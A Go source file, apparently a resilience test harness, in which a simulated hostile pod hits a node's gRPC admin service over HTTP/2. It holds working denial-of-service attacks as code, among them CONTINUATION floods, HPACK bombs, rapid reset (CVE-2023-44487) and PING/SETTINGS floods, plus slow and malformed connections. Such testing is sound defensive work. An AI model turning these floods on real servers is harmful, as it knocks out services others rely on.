@@ -1,0 +1,348 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+)
+
+// counters is what an attacker did.
+type counters struct {
+	connections, refused, ended, bytes atomic.Int64
+}
+
+// attack is one thing that a hostile pod does.
+type attack struct {
+	name string
+	// What it is known as, or what it is after.
+	about string
+	// How many processes do it at once; 0 is 1.
+	processes int
+	// What the simulated node does meanwhile, for its admin service.
+	fault map[string]any
+	// The guard, which is on Windows' pipes alone, is what ends it.
+	guarded bool
+	run     func(ctx context.Context, count *counters)
+}
+
+var attacks = []attack{
+	{name: "continuation", about: "HEADERS, then CONTINUATION without end (VU#421644)", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			if err := r.headers(r.fields(pathExists), false, false); err != nil {
+				return err
+			}
+			// One field, which is not to be remembered, per frame.
+			field := append([]byte{0x00, 1, 'x', 0x7f, 0x81, 0x7b}, bytes.Repeat([]byte{'a'}, 127+1+123*128)...)
+			for {
+				if err := r.WriteContinuation(r.stream, false, field); err != nil {
+					return err
+				}
+			}
+		}))},
+	{name: "endless string", about: "a header of 4 GB, by its own account (CVE-2023-33953)", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			block := append([]byte{}, r.fields(pathExists)...)
+			block = append(block, 0x00, 1, 'x', 0x7f, 0x81, 0xff, 0xff, 0xff, 0x0f)
+			return endless(r, block, bytes.Repeat([]byte{'a'}, 16000))
+		}))},
+	{name: "endless number", about: "an integer of HPACK padded without end (CVE-2023-33953)", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			block := append([]byte{}, r.fields(pathExists)...)
+			return endless(r, append(block, 0x00, 1, 'x', 0x7f), bytes.Repeat([]byte{0x80}, 16000))
+		}))},
+	{name: "header bomb", about: "one byte of HPACK for 4 KB of header, thousands of times", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			r.fields(pathExists, "x", strings.Repeat("a", 3900))
+			for {
+				// 62: the newest entry of the dynamic table (RFC 7541, 2.3.3).
+				block := append(append([]byte{}, r.block.Bytes()...), bytes.Repeat([]byte{0x80 | 62}, 11000)...)
+				if err := r.headers(block, true, true); err != nil {
+					return err
+				}
+				if err := r.out.Flush(); err != nil {
+					return err
+				}
+				r.fields(pathExists)
+			}
+		}))},
+	{name: "bad pseudo-headers", about: "te, :scheme, grpclb_client_stats that abort gRPC, and 9 to 24 KB more (CVE-2023-1428)",
+		run: again(openAnd(func(r *raw) error {
+			for size := 8 << 10; ; size = 8<<10 + (size+1000)%(16<<10) {
+				for _, bad := range [][]string{{"te", "x"}, {":scheme", "x"}, {"grpclb_client_stats", "x"}, {":method", "x"}} {
+					large := []string{"a", strings.Repeat("b", size/2), "c", strings.Repeat("d", size/2)}
+					for _, more := range [][]string{append(append([]string{}, bad...), large...), append(large, bad...)} {
+						block := r.fields(pathExists, more...)
+						first := min(len(block), 16000)
+						if err := r.headers(block[:first], first == len(block), true); err != nil {
+							return err
+						}
+						if first < len(block) {
+							r.WriteContinuation(r.stream, true, block[first:])
+						}
+						if err := r.out.Flush(); err != nil {
+							return err
+						}
+					}
+				}
+			}
+		}))},
+	{name: "rapid reset", about: "HEADERS and RST_STREAM without end (CVE-2023-44487)", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			for {
+				if err := r.headers(r.fields(pathExists), true, false); err != nil {
+					return err
+				}
+				r.WriteRSTStream(r.stream, http2.ErrCodeCancel)
+			}
+		}))},
+	{name: "ping", about: "PING without end (CVE-2019-9512)", guarded: true,
+		run: again(flood(func(r *raw) error { return r.WritePing(false, [8]byte{}) }))},
+	{name: "settings", about: "SETTINGS without end (CVE-2019-9515)", guarded: true,
+		run: again(flood(func(r *raw) error { return r.WriteSettings() }))},
+	{name: "priority", about: "PRIORITY without end (CVE-2019-9513)", guarded: true,
+		run: again(flood(func(r *raw) error {
+			return r.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 7})
+		}))},
+	{name: "window update", about: "WINDOW_UPDATE without end", guarded: true,
+		run: again(flood(func(r *raw) error { return r.WriteWindowUpdate(0, 1) }))},
+	{name: "empty frames", about: "empty DATA without end (CVE-2019-9518)", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			if err := r.headers(r.fields(pathExists), true, false); err != nil {
+				return err
+			}
+			for {
+				if err := r.WriteData(r.stream, false, nil); err != nil {
+					return err
+				}
+			}
+		}))},
+	{name: "unknown frames", about: "frames of a type that does not exist", guarded: true,
+		run: again(flood(func(r *raw) error { return r.WriteRawFrame(0x42, 0, 0, make([]byte, 1000)) }))},
+	{name: "data on closed streams", about: "DATA for calls that have ended", guarded: true,
+		run: again(openAnd(func(r *raw) error {
+			if err := r.call(pathExists, `C:\var\lib\kubelet`); err != nil {
+				return err
+			}
+			for {
+				if err := r.WriteData(r.stream, false, make([]byte, 1000)); err != nil {
+					return err
+				}
+			}
+		}))},
+	{name: "idle after the preface", about: "1,100 connections that begin HTTP/2 and rest",
+		run: crowd(1100, func(ctx context.Context, r *raw) {
+			if r.begin() == nil {
+				io.Copy(io.Discard, r.Conn)
+			}
+		})},
+	{name: "silent", about: "2,000 connections that send nothing",
+		run: crowd(2000, func(ctx context.Context, r *raw) { io.Copy(io.Discard, r.Conn) })},
+	{name: "garbage", about: "first bytes that are not HTTP/2",
+		run: again(func(ctx context.Context, count *counters) {
+			if r, err := dial(ctx, count); err == nil {
+				junk := make([]byte, 4096)
+				rand.Read(junk)
+				for err == nil {
+					_, err = r.Write(junk)
+				}
+				r.Close()
+			}
+		})},
+	{name: "connects", about: "10,000 connections a second, each closed at once",
+		run: func(ctx context.Context, count *counters) {
+			each(ctx, 8, func() {
+				began, made := time.Now(), 0
+				for ctx.Err() == nil {
+					if r, err := dial(ctx, count); err == nil {
+						r.Close()
+					}
+					made++
+					time.Sleep(time.Until(began.Add(time.Duration(made) * 8 * time.Second / 10000)))
+				}
+			})
+		}},
+	{name: "slow writers", about: "300 connections that send a call a byte at a time",
+		run: crowd(300, func(ctx context.Context, r *raw) {
+			if r.begin() != nil {
+				return
+			}
+			go io.Copy(io.Discard, r.Conn)
+			for ctx.Err() == nil {
+				for _, one := range r.encoded(func() { r.call(pathExists, `C:\var\lib\kubelet`) }) {
+					if _, err := r.Write([]byte{one}); err != nil {
+						return
+					}
+					time.Sleep(100 * time.Millisecond)
+				}
+			}
+		})},
+	{name: "readers that do not read", about: "calls and PINGs whose answers stay in the pipe (CVE-2019-9517)",
+		run: crowd(16, func(ctx context.Context, r *raw) {
+			if r.begin() != nil {
+				return
+			}
+			for r.call(pathExists, `C:\var\lib\kubelet`) == nil && r.WritePing(false, [8]byte{}) == nil {
+			}
+		})},
+	{name: "half a request", about: "16 connections with 200 calls each that never end",
+		run: crowd(16, func(ctx context.Context, r *raw) {
+			if r.begin() != nil {
+				return
+			}
+			go io.Copy(io.Discard, r.Conn)
+			for i := 0; i < 200; i++ {
+				r.headers(r.fields(pathExists), true, false)
+				r.WriteData(r.stream, false, message(`C:\var\lib\kubelet`)[:9])
+			}
+			r.out.Flush()
+			<-ctx.Done()
+		})},
+	{name: "giant messages", about: "requests of 4 GB, by their own account, and of 2 MB",
+		run: again(openAnd(func(r *raw) error {
+			for _, size := range []uint32{2 << 20, 1<<32 - 1} {
+				if err := r.headers(r.fields(pathExists), true, false); err != nil {
+					return err
+				}
+				prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
+				r.WriteData(r.stream, false, prefix)
+				for sent := 0; sent < 2<<20; sent += 16 << 10 {
+					if err := r.WriteData(r.stream, false, make([]byte, 16<<10)); err != nil {
+						return err
+					}
+				}
+			}
+			return r.out.Flush()
+		}))},
+	{name: "broken messages", about: "requests cut short, and ones that are not protobuf",
+		run: again(openAnd(func(r *raw) error {
+			for {
+				for _, body := range [][]byte{{0, 0, 0, 3, 232, 1, 2, 3}, {1, 0, 0, 0, 2, 1, 2}, {0, 0, 0, 0, 3, 255, 255, 255}, {7}, {}} {
+					if err := r.headers(r.fields(pathExists), true, false); err != nil {
+						return err
+					}
+					r.WriteData(r.stream, true, body)
+				}
+				if err := r.out.Flush(); err != nil {
+					return err
+				}
+				time.Sleep(time.Millisecond)
+			}
+		}))},
+	{name: "all quotas full", about: "64 connections with 200 calls each that take 5 s",
+		fault: map[string]any{"operation": "filesystem.Mkdir", "latency_ms": 5000},
+		run: crowd(64, func(ctx context.Context, r *raw) {
+			if r.begin() != nil {
+				return
+			}
+			go io.Copy(io.Discard, r.Conn)
+			for ctx.Err() == nil {
+				for i := 0; i < 200; i++ {
+					r.call(mkdir, fmt.Sprintf(`C:\var\lib\kubelet\slow\%d`, i))
+				}
+				if r.out.Flush() != nil {
+					return
+				}
+				time.Sleep(time.Second)
+			}
+		})},
+	{name: "a hundred pods", about: "100 processes that make 20 calls a second each", processes: 100,
+		run: func(ctx context.Context, count *counters) {
+			r, err := open(ctx, count)
+			for err == nil && ctx.Err() == nil {
+				r.call(pathExists, `C:\var\lib\kubelet`)
+				err = r.out.Flush()
+				time.Sleep(50 * time.Millisecond)
+			}
+		}},
+}
+
+// endless sends a block of headers that goes on with the same bytes.
+func endless(r *raw, block, more []byte) error {
+	if err := r.headers(block, false, false); err != nil {
+		return err
+	}
+	for {
+		if err := r.WriteContinuation(r.stream, false, more); err != nil {
+			return err
+		}
+	}
+}
+
+// flood sends one frame without end, on a connection with one call under way.
+func flood(frame func(r *raw) error) func(ctx context.Context, count *counters) {
+	return openAnd(func(r *raw) error {
+		if err := r.headers(r.fields(pathExists), true, false); err != nil {
+			return err
+		}
+		for {
+			if err := frame(r); err != nil {
+				return err
+			}
+		}
+	})
+}
+
+// openAnd does something on a connection until that ends.
+func openAnd(do func(r *raw) error) func(ctx context.Context, count *counters) {
+	return func(ctx context.Context, count *counters) {
+		r, err := open(ctx, count)
+		if err != nil {
+			return
+		}
+		if do(r) != nil {
+			count.ended.Add(1)
+		}
+		r.Close()
+	}
+}
+
+// again has four connections do something, and again whenever it ends.
+func again(do func(ctx context.Context, count *counters)) func(ctx context.Context, count *counters) {
+	return func(ctx context.Context, count *counters) {
+		each(ctx, 4, func() {
+			for ctx.Err() == nil {
+				do(ctx, count)
+			}
+		})
+	}
+}
+
+// crowd keeps so many connections open at once, and dials again for each that is ended.
+func crowd(size int, do func(ctx context.Context, r *raw)) func(ctx context.Context, count *counters) {
+	return func(ctx context.Context, count *counters) {
+		each(ctx, size, func() {
+			for ctx.Err() == nil {
+				if r, err := dial(ctx, count); err == nil {
+					do(ctx, r)
+					r.Close()
+					if ctx.Err() == nil {
+						count.ended.Add(1)
+					}
+				}
+				time.Sleep(100 * time.Millisecond)
+			}
+		})
+	}
+}
+
+// each does the same many times at once.
+func each(ctx context.Context, times int, do func()) {
+	var all sync.WaitGroup
+	for i := 0; i < times; i++ {
+		all.Add(1)
+		go func() {
+			defer all.Done()
+			do()
+		}()
+	}
+	all.Wait()
+}
